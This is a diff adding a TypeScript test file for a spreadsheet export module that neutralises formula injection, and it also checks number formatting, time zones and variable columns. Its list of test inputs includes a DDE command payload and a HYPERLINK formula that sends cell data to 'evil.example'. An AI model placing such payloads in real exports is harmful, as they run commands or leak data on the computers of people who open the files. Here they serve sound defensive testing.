@@ -1,0 +1,138 @@
+/** Nothing that a customer or a bot says is calculated by a spreadsheet; what is a number stays one. */
+import { cellText, defused } from '../../src/domain/export/cells';
+import { restOf, valueOf, VariableNames } from '../../src/domain/export/variables';
+import { zoneTimes } from '../../src/domain/export/zoneTimes';
+
+const FORMULAS = [
+  '=1+1',
+  '+1+1',
+  '-1+1',
+  '@SUM(1)',
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("https://evil.example?"&A1,"Click")',
+  '\t=1',
+  '\r=1',
+  '\n=1',
+  '  =1',
+  '\u00a0=1',
+  '\u3000=1',
+  '＝1+1',
+  '＋1',
+  '－1+1',
+  '＠SUM(1)',
+  '﹦1',
+  '﹢1',
+  '﹣1+1',
+  '﹫x',
+  '−1+1',
+  '"=1',
+  "'=1",
+  '“=1',
+  "''=1",
+  '\u200b=1',
+  '\ufeff=1',
+  '\u200e=1',
+  '\u202e=1',
+  '\u2066=1',
+  '\u00ad=1',
+  '\u3164=1',
+  '\u2800=1',
+  '\u0000=1',
+  '\u0001=1',
+  '" \u200b\t"=1',
+  '+49 30 1234567',
+  '+4930123',
+  '-',
+  '- one of a list',
+];
+test.each(FORMULAS)('%j is text and no formula', (said) => {
+  expect(defused(said)).toBe(`'${said.replaceAll('\0', '')}`);
+});
+
+test.each([
+  ['red;=cmd()', "red;'=cmd()"],
+  ['red,=cmd()', "red,'=cmd()"],
+  ['red\t@SUM(1)', "red\t'@SUM(1)"],
+  ['Hello\n=1+1', "Hello\n'=1+1"],
+  ['Hello\r\n  ＝1', "Hello\r\n  '＝1"],
+  ['x";=1', 'x";\'=1'],
+])('nor is what begins in the middle, where a program of another language takes a cell to begin: %j', (said, is) => {
+  expect(defused(said)).toBe(is);
+});
+
+test.each([
+  'Hello',
+  'a=b',
+  'me@contoso.example',
+  '1+1',
+  'C:\\=x',
+  'Points:\n- one\n- two',
+  'well-known',
+  '-12',
+  '-12.5',
+  '-0,75',
+  '12',
+  '',
+  '👍🏽',
+  'עברית',
+])('%j stays as it is', (said) => {
+  expect(defused(said)).toBe(said);
+});
+
+test('numbers are written as the language has them, and are never text', () => {
+  expect([cellText(-1.5, ','), cellText(-1.5, '.'), cellText(1_042, ','), cellText(-7, '.')]).toEqual([
+    '-1,5',
+    '-1.5',
+    '1042',
+    '-7',
+  ]);
+  expect([cellText(true, '.'), cellText(null, '.')]).toEqual(['true', '']);
+});
+
+test('a cell is no longer than spreadsheets take', () => {
+  expect(cellText('x'.repeat(100_000), '.')).toHaveLength(32_001);
+});
+
+test('a day on which clocks change has right times', () => {
+  const berlin = zoneTimes('Europe/Berlin');
+  expect(
+    ['2026-03-29T00:59:59Z', '2026-03-29T01:00:00Z', '2026-10-25T00:30:00Z', '2026-10-25T01:30:00Z'].map((at) =>
+      berlin(new Date(at)),
+    ),
+  ).toEqual(['2026-03-29 01:59:59', '2026-03-29 03:00:00', '2026-10-25 02:30:00', '2026-10-25 02:30:00']);
+  expect(zoneTimes('Asia/Kathmandu')(new Date('2026-01-01T00:00:00Z'))).toBe('2026-01-01 05:45:00');
+  expect(berlin(null)).toBeNull();
+});
+
+test('the most frequent variables get columns, the others stand together', () => {
+  const names = new VariableNames();
+  for (const [name, count] of [
+    ['order', 9],
+    ['rare', 1],
+    ['city', 4],
+  ] as const)
+    names.add(name, count);
+  expect(names.columns(2)).toEqual({ names: ['city', 'order'], rest: true });
+  expect(names.columns(3)).toEqual({ names: ['city', 'order', 'rare'], rest: false });
+});
+
+test('bots that invent names have no end of them, and the desk has', () => {
+  const names = new VariableNames();
+  for (let n = 0; n < 6_000; n += 1) names.add(`name-${n}`, 1);
+  const { names: columns, rest } = names.columns(5_500);
+  expect([columns.length, rest]).toEqual([5_000, true]);
+});
+
+test('what was captured twice under one name loses nothing', () => {
+  const variables = [
+    { name: 'order', value: 1 },
+    { name: 'order', value: 'two' },
+    { name: '__proto__', value: true },
+    { name: 'none', value: null },
+  ];
+  expect(valueOf(variables, 'order')).toBe('1 | two');
+  expect(valueOf(variables, '__proto__')).toBe(true);
+  expect(valueOf(variables, 'constructor')).toBeNull();
+  expect(restOf(variables, new Set(['order', '__proto__']))).toBe('{"none":null}');
+  expect(restOf(variables, new Set(['order', '__proto__', 'none']))).toBeNull();
+});
